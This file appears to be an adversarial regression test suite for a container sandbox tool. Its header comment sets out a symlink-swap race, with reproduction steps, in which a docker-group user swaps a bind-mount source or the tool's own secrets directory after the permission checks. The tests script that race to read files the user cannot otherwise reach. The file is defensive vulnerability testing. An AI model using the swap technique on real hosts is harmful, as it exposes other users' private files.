// Adversary pass adv25: the caller-rights check of a container cell (adv23,
// src/cell/docker/caller_rights.cc) is made on a path the caller itself can
// change, and the engine resolves that path again, as root, after every
// check: a docker-group caller swaps a component of its own grant for a
// symlink between mcpcell's last check and `start`, and the engine binds a
// directory the caller cannot reach.
//
// Finding (MEDIUM as against the adv23 promise "a container cell of a caller
// that is not root gets no more than the caller has"; docker-group membership
// is root-equivalent through raw docker, so LOW where users may run docker
// themselves): CheckGrant runs faccessat(AT_EACCESS) on m.source at
// ClaimHostIds (caller_rights.cc:32-36); CheckBindSource re-opens the source
// without symlinks at create and before start (docker_cell.cc:63-68,
// 349-356), but for a caller that is not root nothing refuses a source
// whose components the caller can rename (docker_cell.cc:65 returns early:
// "every cell of this user writes as it"), and runc opens the bind source
// by path at `start`. The caller owns its grant's parents (its home, a
// directory of its own in /tmp), so between RecheckSources and runc's mount
// it renames `DIR/d` away and puts a symlink to a directory it cannot
// traverse in its place: the engine binds that. What is bound is then read
// as the cell's uid, which the path's own traversal rights no longer
// restrict: /root/x, or another user's 0700 home, with its 0644 files (most
// of a home, e.g. project sources and editors' .env copies; Debian 12 makes
// homes 0700). docs/THREAT_MODEL.md ("Residual risk, as a normal user")
// documents the window for swaps by another cell; it did not, before adv23,
// let the caller reach beyond its own rights. A blind swapper wins it by
// luck (the threat model measured 21 of 509 docker launches); this test
// times the swap on the caller's own DOCKER_HOST (a byte-for-byte proxy,
// standing in for the luck; it changes nothing it forwards) so the result
// does not depend on scheduling.
//   Reproduce (as docker-group user bob, /srv/h 0700 root holding pub/ 0755
//   and pub/secret 0644): mkdir ~/g/d; DOCKER_HOST=unix:///tmp/p.sock
//   mcpcell run --isolate=docker --read ~/g/d -- cat ~/g/d/secret, with the
//   proxy at /tmp/p.sock doing `mv ~/g/d ~/g/d.old; ln -s /srv/h/pub ~/g/d`
//   when it sees POST /containers/ID/start: prints the secret; `cat
//   /srv/h/pub/secret` as bob: Permission denied.
//   Suggested fix: for a caller that is not root, have the engine check what
//   it mounted before the server runs: hold the server at the gate it
//   already waits at (the ready FIFO / egress gate), compare each bind's
//   device and inode inside the container (exec `stat -c %d:%i TARGET`
//   through the engine, or a stat by the gate itself) with source_dev/
//   source_ino, and kill the container on a mismatch; or refuse, for such
//   a caller, sources with a component in a directory it can write (as
//   CheckNotSwappableBy does for root's cells, with the caller's uid and
//   groups) unless --force-... says the caller accepts the window.
//
// Bounded: one run (60 s guard); the proxy closes with the test; the trees
// are removed after; mcpcell removes its container (checked: none left).

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, chownSync, lchownSync, mkdirSync, mkdtempSync, readdirSync, renameSync, rmSync, statSync, symlinkSync,
  writeFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { after, test } from 'node:test';

import { DOCKER_USER, SOCKET, dockerUserUid, needEngineAsRoot } from './lib/adv23.mjs';
import { MCPCELL_BIN } from './lib/paths.mjs';

const dirs = [];
const servers = [];
after(() => {
  for (const s of servers.splice(0)) s.close();
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

/**
 * A proxy of the engine socket at `sockPath` that calls `onStart` once, right
 * before it forwards the first `POST .../containers/ID/start`.
 */
function startProxy(sockPath, onStart) {
  let fired = false;
  const server = net.createServer((client) => {
    const engine = net.connect(SOCKET);
    client.on('data', (chunk) => {
      if (!fired && /POST [^ ]*\/containers\/[^/ ]+\/start/.test(chunk.toString('latin1'))) {
        fired = true;
        onStart();
      }
      engine.write(chunk);
    });
    engine.on('data', (chunk) => client.write(chunk));
    for (const [a, b] of [[client, engine], [engine, client]]) {
      a.on('end', () => b.end());
      a.on('error', () => b.destroy());
    }
  });
  servers.push(server);
  return new Promise((resolve) => server.listen(sockPath, () => { chmodSync(sockPath, 0o666); resolve(); }));
}

/** `mcpcell ARGS` as the docker-group user with DOCKER_HOST `host`, without blocking the proxy. */
function mcpcellAsDockerUserVia(host, args) {
  const home = spawnSync('getent', ['passwd', DOCKER_USER], { encoding: 'utf8' }).stdout.split(':')[5];
  return new Promise((resolve) => {
    const p = spawn('runuser', ['-u', DOCKER_USER, '--', 'env', '-i', 'PATH=/usr/bin:/bin', 'LANG=C.UTF-8',
      `HOME=${home}`, `DOCKER_HOST=unix://${host}`, MCPCELL_BIN, ...args], { cwd: '/', stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d) => (stdout += d));
    p.stderr.on('data', (d) => (stderr += d));
    const guard = setTimeout(() => p.kill('SIGKILL'), 60_000);
    p.on('close', (code) => { clearTimeout(guard); resolve({ code, stdout, stderr }); });
  });
}

/**
 * A fresh tree with what the caller may not reach: `pub/secret` (0644) in a
 * 0755 directory below a 0700 one of root's. { root, pub, value }.
 */
function unreachableTree() {
  const root = mkdtempSync('/var/tmp/e2e-adv25-swap-');
  dirs.push(root);
  chmodSync(root, 0o755);
  const hidden = path.join(root, 'hidden');
  const pub = path.join(hidden, 'pub');
  mkdirSync(pub, { recursive: true });
  chmodSync(hidden, 0o700);
  chmodSync(pub, 0o755);
  const value = `beyond-caller-${randomBytes(6).toString('hex')}`;
  writeFileSync(path.join(pub, 'secret'), value, { mode: 0o644 });
  const control = spawnSync('runuser', ['-u', DOCKER_USER, '--', 'cat', path.join(pub, 'secret')], { encoding: 'utf8' });
  assert.notEqual(control.status, 0, 'control: the caller itself cannot read the file');
  return { root, pub, value };
}

test('docker cell of a docker-group user: a grant swapped after the checks does not bind what the caller cannot reach',
  { todo: 'adv25: the engine binds a docker-group caller\'s grant by a path the caller swaps after the caller-rights check', timeout: 90_000 },
  async (t) => {
    if (!(await needEngineAsRoot(t))) return;
    const uid = dockerUserUid();
    const { root, pub, value } = unreachableTree();
    // The caller's own directory and grant.
    const own = path.join(root, 'own');
    const grant = path.join(own, 'd');
    mkdirSync(grant, { recursive: true });
    chownSync(own, uid, uid);
    chownSync(grant, uid, uid);
    const sock = path.join(root, 'engine.sock');
    // What the caller does at `start` (done here as root for brevity; the caller owns `own`).
    await startProxy(sock, () => {
      renameSync(grant, `${grant}.old`);
      symlinkSync(pub, grant);
      lchownSync(grant, uid, uid);
    });
    const r = await mcpcellAsDockerUserVia(sock, ['run', '--isolate=docker', '--relay=off', '--read', grant, '--',
      '/bin/cat', path.join(grant, 'secret')]);
    assert.doesNotMatch(r.stdout, new RegExp(value),
      `the cell read ${path.join(pub, 'secret')}, which its caller cannot reach (exit ${r.code}); stderr: ${r.stderr}`);
  });

// The same window without any check at all: the directories mcpcell itself
// makes for the cell (secrets, stdio FIFOs, the DNS report, the egress
// gate) are the caller's own, in /dev/shm, and are bound by path with no
// CheckBindSource (create_body.cc:147-157 AddSupervisorMounts; RecheckSources
// covers spec mounts only, docker_cell.cc:349-356). A caller that swaps
// /dev/shm/mcpcell-secrets-*/s once mcpcell has filled it (its ACL entry for
// the cell's uid is the last step: the group bits show the ACL mask) gets
// whatever directory it names bound at /run/secrets, no proxy and no luck
// needed (the window is the whole container create). The same under
// gVisor (runsc's gofer opens the source by path too).
//   Suggested fix: check these directories as the spec's binds are (no
//   symlink, same device/inode recorded at creation) at create and before
//   start, and give them to the engine only once no one but mcpcell can
//   rename them (for a caller that is not root there is no such place: the
//   post-start identity check above covers them too).
for (const isolate of ['docker', 'gvisor']) {
test(`${isolate} cell of a docker-group user: the secrets directory swapped before start does not bind what the caller cannot reach`,
  { todo: 'adv25: mcpcell\'s own secrets/stdio/DNS/egress dirs are bound by path with no check; the caller swaps them', timeout: 90_000 },
  async (t) => {
    if (!(await needEngineAsRoot(t))) return;
    const uid = dockerUserUid();
    const { root, pub, value } = unreachableTree();
    const secretFile = path.join(root, 'token');
    writeFileSync(secretFile, 'x');
    chownSync(secretFile, uid, uid);
    // What the caller does (as root here for brevity; the directory is the caller's own).
    let swapped = '';
    const poll = setInterval(() => {
      for (const n of readdirSync('/dev/shm').filter((e) => e.startsWith('mcpcell-secrets-'))) {
        const s = path.join('/dev/shm', n, 's');
        try {
          // Filled once handed over: an ACL entry (group bits = its mask), or under gVisor the "other" bits.
          const handed = isolate === 'gvisor' ? 0o005 : 0o050;
          if (swapped || statSync(s).uid !== uid || (statSync(s).mode & handed) === 0) continue;
          renameSync(s, `${s}.old`);
          symlinkSync(pub, s);
          lchownSync(s, uid, uid);
          swapped = s;
        } catch {}
      }
    }, 1);
    const r = await mcpcellAsDockerUserVia(SOCKET, ['run', `--isolate=${isolate}`, '--relay=off', '--secret', `token=${secretFile}`,
      '--', '/bin/cat', '/run/secrets/secret']);
    clearInterval(poll);
    assert.doesNotMatch(r.stdout, new RegExp(value),
      `the cell read ${path.join(pub, 'secret')} through its swapped secrets directory ${swapped} (exit ${r.code}); ` +
      `stderr: ${r.stderr}`);
  });
}
